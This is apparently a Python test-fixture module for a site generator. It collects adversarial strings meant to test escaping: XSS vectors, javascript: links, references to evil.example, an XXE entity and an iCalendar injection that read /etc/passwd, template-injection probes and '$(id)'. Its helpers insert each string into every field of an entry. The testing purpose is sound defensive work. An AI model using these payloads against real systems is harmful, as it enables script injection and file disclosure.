"""Texts that try to be more than text, and an entry and an alias file that hold one of them in every field."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from generator import paths
from generator.briefing import Briefing
from generator.publishing.values.entry import BriefingEntry
from generator.register import Register, Registered

KINDS: dict[str, tuple[str, ...]] = {
    "elements": (
        "<script>alert('x')</script>",
        "</script><script>alert('x')</script>",
        "</title></head><script>alert('x')</script>",
        "</p></li></article><img src=x onerror=alert('x')>",
        "<img/src=`x`onerror=alert('x')>",
        "<<b>b>",
        "<style>@import '//evil.example/x.css'</style>",
        "<a href='jav&#x0A;ascript:alert(1)'>click</a>",
        "<form action=//evil.example><input name=q><button>go</button></form>",
        "<input id=__drawer name=__search>",
        "<base href=//evil.example/> <link rel=preload href=//evil.example/x>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe><object data=x></object>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
        "<svg><style><img src=x onerror=alert(1)></style><use href='data:image/svg+xml,x#a'/></svg>",
        "</text></svg><svg onload=alert('x')><animate onbegin=alert(1) attributeName=x>",
        "<template><b><textarea><plaintext>",
        "<form id=__config><input name=base></form><a id=__search name=__palette>x</a>",
        "<details open ontoggle=alert(1)><summary>x",
        "<!-- open",
        "--> closed",
        "<?php x ?>",
        "<![CDATA[ x ]]>",
        "&lt;script&gt; &amp;lt; &#x3c;script&#x3e; &notanentity; &copy",
        "&Tab;&NewLine;&lbrace;&colon;&#0;&#x110000;&#xD800;",
        "\"'><svg/onload=alert('x')>",
        '" onmouseover="alert(1)" x="',
        "' autofocus onfocus='alert(1)",
    ),
    "links": (
        "[click](javascript:alert('x'))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](<javascript:alert(1)> 'x') [click](&#106;avascript:alert(1))",
        '[click](https://ok.example "a\\" onmouseover=\\"alert(1)")',
        "[click](https://ok.example){ onmouseover=alert(1) }",
        "[[wiki|javascript:alert(1)]] [outer [inner](x)](y) ![a](b)](c)",
        "![image](//evil.example/pixel.gif)",
        "<javascript:alert(1)> and <mailto:a@evil.example>",
        "[ref]: //evil.example 'title'",
        "[ref] and [ref][] and [^1]",
        "](x) [",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example/x",
        "https:evil.example",
        "JaVa\tScRiPt:alert(1)",
        "&#106;avascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "\\\\evil.example/x",
        "https://ok.example@evil.example/",
        "https://evil.example/?a=1&b=<c> www.evil.example a@evil.example",
        "../../../../etc/passwd",
    ),
    "Markdown": (
        "[^1]: a footnote",
        "{: #top .nb-notice onclick=alert(1) }",
        "word {onclick=alert(1)} {: onclick=alert(1)} { .x }",
        "para\n{: style='background:url(//evil.example/x)' #__search }",
        "# Heading {: onclick=alert(1) }",
        "**bold** __bold__ *em* _em_ ~~gone~~ ==mark== ^sup^ `code`",
        "a*b*c snake_case_word 2 ** 3 ** 4",
        "# one\n## two",
        "one\n===",
        "1. one\n2) two",
        "12) twelve",
        "2025. The year",
        "- one\n* two\n+ three",
        "- [ ] open\n- [x] done",
        "    indented code",
        "> quoted",
        "| a | b |\n|---|---|\n| c | d |",
        "a | b || c \\| d",
        "term\n: definition",
        "*[HTML]: abbreviation",
        "[TOC] [[toc]]",
        "~~~\nfence\n~~~",
        "```html\n<script>alert(1)</script>\n```",
        "`` ` `` `#!python x`",
        "<div markdown=1>**x**</div>",
        "a\\",
        "\\",
    ),
    "extensions and templates": (
        "!!! danger\n    text",
        '??? tip "x"',
        "???+ note inline end",
        '=== "Tab"\n    text',
        "/// details | x",
        "/// html | script\nalert(1)\n///",
        "::: module.name",
        "--8<-- 'mkdocs.yml'",
        "-8<- ;--8<-- {!../secret!}",
        "{{ config.site_name }} {% include 'x' %} {# gone #}",
        "{{ ''.__class__.__mro__ }} {%- raw -%} {% endraw %}",
        "{!mkdocs.yml!} ${HOME} $(id) !ENV X !!python/object:os.system",
        "`id` | %x% %(x)s {0} {x!r}",
        "$x$ $$y$$ \\(z\\) \\[w\\] \\* \\_",
        "$\\href{javascript:alert(1)}{x}$",
        ":smile: :fontawesome-brands-x: ++ctrl+c++",
        "<!-- material/tags --> <!-- more --> (1) { .annotate }",
        "\x02wzxhzdk:1\x03 \x02klzzwxh:1\x03 \x02amp\x03",
        "wzxhzdk:0 klzzwxh:0",
    ),
    "front matter and YAML": (
        "one\n---\ntemplate: evil.html\n---",
        "one\n...\n--- !!map",
        "--- ",
        "null",
        "true",
        "0x10",
        "~",
        "- ",
        "%YAML 1.2",
        "&anchor *alias <<: {a: b}",
        "'single' \"double\" `tick` “curly” ‘curly’ «angle»",
        "index",
    ),
    "feeds, calendars and linked data": (
        "]]></content></entry><entry><title>",
        "?><?xml-stylesheet href='//evil.example/x.xsl'?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
        "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:file:///etc/passwd",
        'x\\nEND:VCALENDAR \\, \\; ; , : "',
        ";VALUE=URI:javascript:alert(1)",
        '"}]}</script><script>alert(1)</script>',
        "<!--<script>",
        "ü" * 80,
    ),
    "controls, lines and direction": (
        "nul\x00 bell\x07 escape\x1b[31m delete\x7f c1\x9b31m",
        "line\u2028para\u2029next\x85form\x0cvertical\x0bend",
        "carriage\rreturn \r\n both",
        "\u2028# heading\u2028- item",
        "\u202eright \u2067to left",
        "\u202c\u2069 closed without being open \u2066\u2066\u202a",
        "\u200f\u061c\u200e marks",
        "zero\u200bwidth\ufeffmark soft\u00adhyphen",
        "\ufffe\uffff\ufdd0 \U0001fffe",
        "tag \U000e0041\U000e007f selector \ufe0f\U000e0100",
        "Z" + "\u0301\u0327" * 40 + "algo",
        "日本語 עברית العربية 🙂👩‍👩‍👧 é e\u0301",
        "\u3000wide\u00a0spaces\u2003here",
        "x" * 3000,
    ),
}
"""By what they try; some try several."""

PAYLOADS = tuple(text for texts in KINDS.values() for text in texts)


def register(texts: Iterable[str]) -> Register:
    """Make an alias file that says each text of an actor in every field that it has."""
    told = [
        Registered.model_construct(
            id=text[:120], name=text, aliases=(text,), link="https://x.example/" + "".join(text.split())
        )
        for text in texts
    ]
    return Register(told)


def entry(text: str, slug: str | None = None, **changes: Any) -> BriefingEntry:
    """Make an entry that holds `text` wherever the schema lets a person write text."""
    identifier = text[:120]
    actor = {
        "id": identifier,
        "name": text,
        "aliases": [text, "Two Words"],
        "kind": "person",
        "role": text,
        "organization": identifier,
        "country": "GB",
        "evidence": [text],
    }
    said = {"statement": f"before {text} after", "quote": [text], "via": text, "evidence": [text]}
    event = {"what": text, "said": text, "where": text, "participants": [identifier]} | {"according_to": identifier}
    data: dict[str, Any] = {
        "headline": text,
        "summary": [{"id": identifier, "text": text, "evidence": [text]}],
        "article": dict.fromkeys(("file", "title", "source", "source_note", "url", "published", "published_note"), text)
        | {"author": [text]},
        "actors": [actor, actor | {"id": "other", "organization": identifier}],
        "positions": [
            {"id": identifier, "actor": identifier, "stance": text, "toward": [identifier, "other"], **said},
            {"id": "unnamed", "source": text, "stance": text, "quote": [text, f'"{text}"'], "evidence": [text]},
            {"id": "gone", "actor": f"gone {text}"[:120], "stance": text, "statement": text},
        ],
        "next_events": [
            {"id": identifier, "when": re.sub(r"\s", "", text) or "x", "evidence": [text], **event},
            {"id": "dated", "when": "2025-06-15", "evidence": [text], **event, "participants": [identifier, "other"]},
        ],
        "corrections": [{"date": text, "text": text}],
        "reason": text,
        "x-note": text,
    }
    return BriefingEntry(
        text if slug is None else slug,
        Briefing.model_validate(data | changes),
        f"{text}\n\n{text}\n",
        updated=text,
        edited=frozenset({paths.Path("actors", identifier, "role")}),
    )


def together(texts: Iterable[str]) -> BriefingEntry:
    """Make one entry, called `together`, in which each text is a sentence, an actor, a position and an event."""
    ones = [entry(text).briefing for text in texts]
    gathered = Briefing(
        headline="All of them together",
        article={"file": "seeds/together.txt"},
        summary=tuple(one.summary[0] for one in ones),
        actors=tuple(one.actors[0] for one in ones),
        positions=tuple(one.positions[0] for one in ones),
        next_events=tuple(one.next_events[0] for one in ones),
    )
    return BriefingEntry("together", gathered)
